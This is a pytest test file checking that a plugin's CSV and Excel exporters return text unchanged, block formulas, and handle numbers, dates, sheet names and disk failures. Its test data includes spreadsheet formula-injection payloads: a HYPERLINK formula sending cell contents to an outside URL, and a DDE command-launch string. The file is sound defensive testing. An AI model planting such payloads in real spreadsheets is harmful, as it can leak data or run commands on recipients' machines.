"""Lists as CSV and Excel: every text comes back as it was put in, and nothing runs."""

from __future__ import annotations

import csv
import io
import os
import string
import zipfile
from collections.abc import Callable
from datetime import date, datetime, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from badinput import disk_full_after, naughty_strings
from hypothesis import given, settings
from hypothesis import strategies as st

from yuhua_dcm_plugin.cases.list_file import write_csv, write_list, write_xlsx
from yuhua_dcm_plugin.core.errors import DcmError
from yuhua_dcm_plugin.core.xlsx import MOST_CHARACTERS, Sheet, clean_text, workbook_bytes

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
DANGEROUS = [
    '=HYPERLINK("http://example.org?x="&A1,"ok")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    " =1+1",
    "＝1+1",
    "-138****0001",
]
PLAIN = [
    "井盖破损",
    "YH20260302000001",
    "𠮷野家 😀",
    "'单引号",
    '引"号,逗号',
    "第一行\n第二行",
    "",
    " 前后 ",
]
LIKE_AN_ESCAPE = ["_x0041_", "a_x000D_b", "_x005F_", "_x00"]
Writer = Callable[[Any, Any, Path], Path]


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel takes a CSV without a mark for GBK"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def read_xlsx(path: Path, sheet: int = 1) -> list[list[str]]:
    """Read cells as Excel does: a cell's letters say where it stands."""
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            ElementTree.fromstring(archive.read(name))
        root = ElementTree.fromstring(archive.read(f"xl/worksheets/sheet{sheet}.xml"))
    assert not root.findall(".//m:f", NS), "a formula"
    return [_row(row) for row in root.findall(".//m:row", NS)]


def _row(row: ElementTree.Element) -> list[str]:
    cells: dict[int, str] = {}
    for cell in row.findall("m:c", NS):
        text = cell.find("m:is/m:t", NS)
        value = cell.find("m:v", NS)
        found = text if text is not None else value
        assert found is not None
        cells[_column(cell.get("r", ""))] = unescaped(found.text or "")
    return [cells.get(number, "") for number in range(max(cells, default=-1) + 1)]


def _column(place: str) -> int:
    number = 0
    for letter in place.rstrip(string.digits):
        number = number * 26 + ord(letter) - ord("A") + 1
    return number - 1


def unescaped(text: str) -> str:
    """Excel reads _xHHHH_ as a character, and _x005F_ is how an underscore before it is written."""
    import re

    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)


def unguarded(text: str, original: str) -> str:
    bare = clean_text(original).lstrip(" \u3000\u00a0\ufeff")
    if bare[:1] in tuple("=+-@\t\n＝＋－＠"):
        assert text.startswith("'"), f"{original!r} would run"
        return text[1:]
    return text


def test_csv_brings_every_text_back(tmp_path: Path) -> None:
    texts = [*PLAIN, *DANGEROUS, *LIKE_AN_ESCAPE]
    rows = read_csv(write_csv(["文本", "号"], [[text, 1] for text in texts], tmp_path / "x.csv"))
    assert rows[0] == ["文本", "号"]
    assert [unguarded(row[0], text) for row, text in zip(rows[1:], texts)] == list(
        map(clean_text, texts)
    )


def test_xlsx_brings_every_text_back(tmp_path: Path) -> None:
    texts = [*PLAIN, *DANGEROUS, *LIKE_AN_ESCAPE]
    path = write_xlsx(["文本", "号"], [[text, 1] for text in texts], tmp_path / "x.xlsx")
    rows = read_xlsx(path)
    assert rows == [["文本", "号"], *([clean_text(text), "1"] for text in texts)]


@pytest.mark.parametrize("writer", [write_csv, write_xlsx])
def test_naughty_strings_survive(writer: Writer, tmp_path: Path) -> None:
    texts = naughty_strings()
    suffix = "csv" if writer is write_csv else "xlsx"
    path = writer(texts[:3], [[text, "."] for text in texts], tmp_path / f"x.{suffix}")
    rows = read_csv(path) if writer is write_csv else read_xlsx(path)
    assert len(rows) == len(texts) + 1
    for row, text in zip(rows[1:], texts):
        got = unguarded(row[0], text) if writer is write_csv else row[0]
        assert got == clean_text(text)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(st.characters()), min_size=1, max_size=5))
def test_any_text_makes_a_readable_file(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    folder = tmp_path_factory.mktemp("any")
    assert read_xlsx(write_xlsx(texts, [texts], folder / "x.xlsx"))[1:] == [
        list(map(clean_text, texts))
    ]
    got = read_csv(write_csv(texts, [texts], folder / "x.csv"))[1]
    assert list(map(unguarded, got, texts)) == list(map(clean_text, texts))


def test_control_characters_go_and_half_characters_show() -> None:
    assert clean_text("a\x00b\x07\x1b[31mc\x0b\x0cd\ufffe\uffff") == "ab[31mcd"
    assert clean_text("前\ud83d后") == "前\ufffd后"
    assert clean_text("一\r\n二\r三\n四\t五") == "一\n二\n三\n四\t五"


def test_numbers_stay_numbers_and_times_times(tmp_path: Path) -> None:
    at = datetime(2026, 3, 2, 1, 30, tzinfo=timezone.utc)
    row = [5, -1.5, Decimal("2.50"), at, date(2026, 3, 2), None, 12345678901234567890, float("nan")]
    path = write_xlsx(list("abcdefgh"), [row], tmp_path / "x.xlsx")
    text = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    for cell in ("<v>5</v>", "<v>-1.5</v>", "<v>2.50</v>", "<v>46083</v>".replace("</v>", ".")):
        assert cell in text
    assert read_xlsx(path)[1][6:] == ["12345678901234567890", "nan"]
    assert read_csv(write_csv(list("abcdefgh"), [row], tmp_path / "x.csv"))[1] == [
        *("5", "-1.5", "2.50", "2026-03-02 09:30", "2026-03-02", ""),
        *("12345678901234567890", "nan"),
    ]


def test_gdal_reads_the_workbook(tmp_path: Path) -> None:
    ogr = pytest.importorskip("osgeo.ogr", reason="GDAL is not installed")
    ogr.DontUseExceptions()  # newer ones warn unless told
    at = datetime(2026, 3, 2, 1, 30, tzinfo=timezone.utc)
    rows = [["=1+1", 7, at, "𠮷😀 <b>"], ["_x0041_", 8, at, "  "]]
    path = write_xlsx(["案情", "数", "时间", "名"], rows, tmp_path / "案件 清单.xlsx")
    book = ogr.Open(str(path))
    layer = book.GetLayer(0)
    assert layer.GetName() == "案件 清单"
    kinds = [layer.GetLayerDefn().GetFieldDefn(n).GetTypeName() for n in range(4)]
    assert kinds == ["String", "Integer", "DateTime", "String"]
    found = [feature.GetField("案情") for feature in layer]
    assert found[0] == "=1+1"
    layer.ResetReading()
    first = layer.GetNextFeature()
    assert first.GetField("时间") == "2026/03/02 09:30:00"
    assert first.GetField("名") == "𠮷😀 <b>"


def test_a_text_longer_than_a_cell_is_cut_visibly_in_excel_only(tmp_path: Path) -> None:
    for letter in "井𠮷":
        text = letter * 100_000
        cell = read_xlsx(write_xlsx(["a"], [[text]], tmp_path / "x.xlsx"))[1][0]
        assert len(cell.encode("utf-16-le")) // 2 <= MOST_CHARACTERS
        assert cell.endswith(f"{letter}…")
        assert read_csv(write_csv(["a"], [[text]], tmp_path / "x.csv"))[1][0] == text


def test_sheet_names_are_ones_excel_takes() -> None:
    names = ["a/b:c*?[x]", "", "x" * 40, "a b c   x", "A B C   X", "History'"]
    book = workbook_bytes([Sheet(name, ["a"], []) for name in names])
    root = ElementTree.fromstring(zipfile.ZipFile(io.BytesIO(book)).read("xl/workbook.xml"))
    written = [str(sheet.get("name")) for sheet in root.findall(".//m:sheet", NS)]
    assert len({name.lower() for name in written}) == len(names)
    assert all(0 < len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in written)


def test_the_name_chooses_the_kind(tmp_path: Path) -> None:
    assert write_list(["a"], [["b"]], tmp_path / "x.XLSX").read_bytes().startswith(b"PK")
    assert read_csv(write_list(["a"], [["b"]], tmp_path / "x.csv")) == [["a"], ["b"]]


def test_the_same_list_gives_the_same_bytes(tmp_path: Path) -> None:
    first = write_xlsx(["a"], [["b"]], tmp_path / "x.xlsx").read_bytes()
    assert write_xlsx(["a"], [["b"]], tmp_path / "x.xlsx").read_bytes() == first


@pytest.mark.parametrize("writer", [write_csv, write_xlsx])
def test_a_full_disk_keeps_the_old_file(writer: Writer, tmp_path: Path) -> None:
    target = tmp_path / "x.csv"
    target.write_bytes(b"older")
    rows = [[str(number) * 40 + os.urandom(20).hex()] for number in range(2000)]
    with disk_full_after(4096), pytest.raises(DcmError, match=r"x\.csv"):
        writer(["a"], rows, target)
    assert target.read_bytes() == b"older"
    assert list(tmp_path.iterdir()) == [target]


def test_more_rows_than_excel_holds_are_refused_in_words(tmp_path: Path) -> None:
    class Many(list):  # type: ignore[type-arg]
        def __len__(self) -> int:
            return 1_048_576

    with pytest.raises(DcmError, match="1,048,575"):
        write_xlsx(["a"], Many(), tmp_path / "x.xlsx")
    assert not list(tmp_path.iterdir())
